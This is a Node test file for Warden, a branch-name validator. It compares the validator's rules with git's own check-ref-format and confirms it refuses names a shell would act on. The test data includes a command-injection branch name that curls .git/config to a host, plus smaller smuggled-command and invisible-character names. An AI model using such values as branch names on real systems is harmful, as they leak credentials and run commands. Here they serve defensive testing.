import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import { gitBranchNameProblem, gitRefFormatProblem, refNameProblem } from './git-ref-name.ts';

// Outside any repository, so `--branch` cannot expand `@{-1}` against someone's history.
const outside = mkdtempSync(join(tmpdir(), 'warden-refname-'));
after(() => rmSync(outside, { recursive: true, force: true }));

/** The shape of the 2025 attack: git accepts it, a shell would run curl. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
const ATTACK = 'main$(curl${IFS}-d${IFS}@.git/config${IFS}127.0.0.1)';

/** The oracle: what the real git binary says. */
function gitAccepts(mode: '--allow-onelevel' | '--branch' | undefined, name: string): boolean {
  const args = ['check-ref-format', ...(mode ? [mode] : []), name];
  return spawnSync('git', args, { cwd: outside, stdio: 'ignore' }).status === 0;
}

const TABLE = [
  'main',
  'feature/x',
  'a/b/c',
  'warden/fix-1',
  'HEAD',
  '@',
  '@/a',
  'a/@',
  'a@b',
  'a@{b',
  '@{-1}',
  'a.lock',
  'a.lock/b',
  'a/b.lock.c',
  'a/.b',
  '.a',
  'a..b',
  'a/',
  '/a',
  'a//b',
  'a.',
  'a/b.',
  'a./b',
  'a*',
  'a?',
  'a[b',
  'a~1',
  'a^',
  'a:b',
  'a b',
  'a\tb',
  'a\\b',
  'a\x7fb',
  'a\x01b',
  'é/ü',
  ATTACK,
  'main`id`',
  'a;b|c&d',
  "a'b",
  'a"b',
  'a{b}',
  'a<b>c',
  'a(b)',
  'a!b',
  'a\u202eb',
  'a\u200bb',
  'a\u0085b',
];

test("git's rules, exactly as git check-ref-format applies them (with and without --allow-onelevel)", () => {
  for (const name of TABLE) {
    for (const allowOneLevel of [false, true]) {
      const ours = gitRefFormatProblem(name, { allowOneLevel }) === undefined;
      assert.equal(
        ours,
        gitAccepts(allowOneLevel ? '--allow-onelevel' : undefined, name),
        `${JSON.stringify(name)} allowOneLevel=${allowOneLevel}: ours says ${ours ? 'valid' : gitRefFormatProblem(name, { allowOneLevel })}`,
      );
    }
  }
});

test('branch names, exactly as git check-ref-format --branch judges them', () => {
  for (const name of [...TABLE, '-a', '-', 'a-', 'refs/heads/x']) {
    const ours = gitBranchNameProblem(name) === undefined;
    assert.equal(
      ours,
      gitAccepts('--branch', name),
      `${JSON.stringify(name)}: ${gitBranchNameProblem(name)}`,
    );
  }
});

test('random names built from the characters that matter agree with git', () => {
  const alphabet = fc.constantFrom(...'ab/.@{}-*:~^ $`;|()\'"\\!\tz'.split(''));
  fc.assert(
    fc.property(fc.array(alphabet, { minLength: 1, maxLength: 8 }), (chars) => {
      const name = chars.join('');
      // Plain check-ref-format reads a leading "-" as an option; --branch covers that case.
      if (name.startsWith('-')) return;
      assert.equal(
        gitRefFormatProblem(name, { allowOneLevel: true }) === undefined,
        gitAccepts('--allow-onelevel', name),
        JSON.stringify(name),
      );
      assert.equal(
        gitBranchNameProblem(name) === undefined,
        gitAccepts('--branch', name),
        JSON.stringify(name),
      );
    }),
    { numRuns: 150 },
  );
});

test('Warden refuses names git accepts but a shell would act on', () => {
  const hostile = [
    ATTACK,
    'main`id`',
    'x;id',
    'x|id',
    'x&&id',
    'x>out',
    'x<in',
    "x'y",
    'x"y',
    'x{a,b}',
    'x!1',
    'fix\u202eexe.txt',
    'a\u200bb',
  ];
  for (const name of hostile) {
    assert.equal(gitAccepts('--branch', name), true, `git accepts ${JSON.stringify(name)}`);
    assert.ok(refNameProblem(name), `Warden refuses ${JSON.stringify(name)}`);
  }
  assert.match(refNameProblem('main$(id)') ?? '', /shell metacharacter "\$"/);
  assert.match(refNameProblem('a\u202eb') ?? '', /invisible character U\+202E/);
  assert.match(refNameProblem('a..b') ?? '', /git refuses it: it contains "\.\."/);
  assert.match(refNameProblem('-f') ?? '', /begins with "-"/);
});

test('ordinary branch names pass', () => {
  for (const name of ['main', 'warden/fix', 'feature/JIRA-123_x', 'release/1.2.3', 'user@host', 'ünïcode']) {
    assert.equal(refNameProblem(name), undefined, name);
  }
});
